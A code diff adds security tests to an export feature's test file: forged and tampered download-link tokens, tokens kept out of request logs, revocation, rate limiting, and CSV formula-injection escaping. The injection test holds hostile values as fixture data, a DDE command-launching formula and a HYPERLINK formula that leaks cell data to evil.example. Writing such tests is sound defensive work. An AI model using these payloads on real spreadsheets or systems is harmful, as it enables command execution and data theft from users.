@@ -1,8 +1,10 @@
+import { fileURLToPath } from "node:url";
 import { buildExport, COLUMNS, type ExportFormatName } from "@upfleet/exports";
 import { asRead, expectedRows, readExportFile } from "@upfleet/exports/testing";
 import { newId } from "@upfleet/ids";
+import { startApp } from "@upfleet/testing";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { createKey, type TestUser } from "./support/accounts.ts";
+import { addUser, createKey, type TestUser } from "./support/accounts.ts";
 import { detailPaths, expectError, tableCounts } from "./support/security.ts";
 import { newMonitor, startWithTenants } from "./support/tenants.ts";
 import type { TestApi } from "./support/test-api.ts";
@@ -246,13 +248,16 @@ describe("a completed export", () => {
     const url = new URL(exp.download_url);
     const token = url.searchParams.get("token")!;
     const [header, payload, signature] = token.split(".");
+    const holder = { userId: owner.id, apiKeyId: null };
     const forged = JSON.parse(Buffer.from(payload!, "base64url").toString());
     const tampered = [
       `${header}.${payload}.${signature!.slice(0, -2)}${signature!.endsWith("AA") ? "BB" : "AA"}`,
       `${header}.${Buffer.from(JSON.stringify({ ...forged, exp: forged.exp + 86_400 })).toString("base64url")}.${signature}`,
       `${Buffer.from(JSON.stringify({ alg: "none", typ: "JWT" })).toString("base64url")}.${payload}.`,
-      (await api.deps.exports.links.sign(exp.id, new Date(Date.now() - 2 * HOUR))).token,
-      (await api.deps.exports.links.sign(newId("export"))).token,
+      (await api.deps.exports.links.sign(exp.id, holder, new Date(Date.now() - 2 * HOUR))).token,
+      (await api.deps.exports.links.sign(newId("export"), holder)).token,
+      (await api.deps.exports.links.sign(exp.id, { userId: other.id, apiKeyId: null })).token,
+      (await api.deps.exports.links.sign(exp.id, { userId: owner.id, apiKeyId: newId("apiKey") })).token,
       owner.token,
       "",
     ];
@@ -284,5 +289,122 @@ describe("a completed export", () => {
     for (const e of res.body.data) {
       expect(e.download_url === null).toBe(e.status !== "completed" || Date.parse(e.expires_at) <= Date.now());
     }
+  });
+});
+
+describe("a download link", () => {
+  const pathOf = (url: string) => new URL(url).pathname + new URL(url).search;
+  const download = (url: string) => api.request("GET", pathOf(url));
+
+  /** A completed export and its link, as `auth` (a session or a raw key) reads it. */
+  async function linkAs(auth: string, fields: Record<string, unknown> = {}) {
+    const exp = await completedExport({ format: "ndjson", monitor_ids: [monB], ...fields });
+    const res = await api.request("GET", `${EXPORTS}/${exp.id}`, { auth });
+    expect(res.status, res.text).toBe(200);
+    expect(res.body.download_url).toMatch(/token=/);
+    return res.body.download_url as string;
+  }
+
+  it("is never written to the request log: the API logs the path without its query string", async () => {
+    const logged = await startApp({
+      cwd: fileURLToPath(new URL("..", import.meta.url)),
+      env: {
+        DATABASE_URL: api.database.url,
+        REDIS_URL: api.redis.url,
+        REDIS_PREFIX: api.redis.prefix,
+        APP_SECRET: api.deps.config.APP_SECRET!,
+        PUBLIC_URL: "https://status.example.com/",
+        PORT: "0",
+        LOG_LEVEL: "info",
+      },
+    });
+    try {
+      const url = await linkAs(owner.token);
+      const token = new URL(url).searchParams.get("token")!;
+      const path = new URL(url).pathname;
+      const ok = await fetch(`${logged.url}${pathOf(url)}`);
+      expect(ok.status).toBe(200);
+      await ok.arrayBuffer();
+      const bad = await fetch(`${logged.url}${path}?token=${token.slice(0, -4)}AAAA`);
+      expect(bad.status).toBe(401);
+      for (const status of [200, 401]) {
+        const line = await logged.waitForLog(
+          (entry) =>
+            (entry.res as { status?: number } | undefined)?.status === status &&
+            String((entry.req as { path?: string } | undefined)?.path).includes("/download"),
+        );
+        expect(line.req).toEqual({ method: "GET", path });
+      }
+      expect(logged.output()).not.toContain(token.split(".")[2]!);
+      expect(logged.output()).not.toContain("token=");
+    } finally {
+      await logged.stop();
+    }
+  });
+
+  it("dies when the API key that asked for it is revoked (a 401, as for a revoked key)", async () => {
+    const key = await createKey(api, owner, { scopes: ["exports:read", "monitors:read"] });
+    const url = await linkAs(key.raw);
+    expect((await req("DELETE", `/api/v1/keys/${key.id}`)).status).toBe(204);
+    const res = await download(url);
+    expectError(res, 401, "unauthorized");
+    expect(res.body.message).toBe("Invalid or expired download link");
+  });
+
+  it("dies when the user who asked for it is deleted", async () => {
+    const admin = await addUser(api, owner, "admin");
+    const url = await linkAs(admin.token);
+    const keyUrl = await linkAs((await createKey(api, admin, { scopes: ["exports:read", "monitors:read"] })).raw);
+    expect((await req("DELETE", `/api/v1/users/${admin.id}`)).status).toBe(204);
+    expectError(await download(url), 401, "unauthorized");
+    expectError(await download(keyUrl), 401, "unauthorized");
+  });
+
+  it("works once a minute per export: a second download at once is a 429 with Retry-After", async () => {
+    const url = await linkAs(owner.token);
+    const exportId = new URL(url).pathname.split("/")[4]!;
+    const key = await createKey(api, owner, { scopes: ["exports:read", "monitors:read"] });
+    const viaKey = (await api.request("GET", `${EXPORTS}/${exportId}`, { auth: key.raw })).body.download_url;
+    const other = await linkAs(owner.token);
+    expect((await download(url)).status).toBe(200);
+    // The same link again, or another caller's link to the same export: the export's minute is taken.
+    for (const link of [url, viaKey]) {
+      const res = await download(link);
+      expectError(res, 429, "rate_limited");
+      const retryAfter = Number(res.headers.get("retry-after"));
+      expect(retryAfter).toBeGreaterThanOrEqual(1);
+      expect(retryAfter).toBeLessThanOrEqual(60);
+    }
+    // Another export's link is its own.
+    expect((await download(other)).status).toBe(200);
+  });
+});
+
+describe("CSV exports and formula injection", () => {
+  it("a check's message that is a spreadsheet formula comes out as text with a leading '", async () => {
+    const monitorId = await newMonitor(api, owner);
+    const tick = new Date(FROM + HOUR);
+    await api.deps.db.checkResult.create({
+      data: {
+        id: newId("check"),
+        monitorId,
+        region: "eu-west",
+        tick,
+        checkedAt: tick,
+        status: "down",
+        responseMs: null,
+        httpStatus: 500,
+        error: "@SUM(1+1)*cmd|' /C calc'!A0",
+        message: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+        details: {},
+      },
+    });
+    const exp = await completedExport({ format: "csv", monitor_ids: [monitorId] });
+    const res = await fetch(`${api.url}${new URL(exp.download_url).pathname}${new URL(exp.download_url).search}`);
+    expect(res.status).toBe(200);
+    const [row] = readExportFile(await res.text(), "csv", COLUMNS.checks) as string[][];
+    const cell = (name: string) => row![(COLUMNS.checks as readonly string[]).indexOf(name)];
+    expect(cell("message")).toBe(`'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`);
+    expect(cell("error")).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
   });
 });
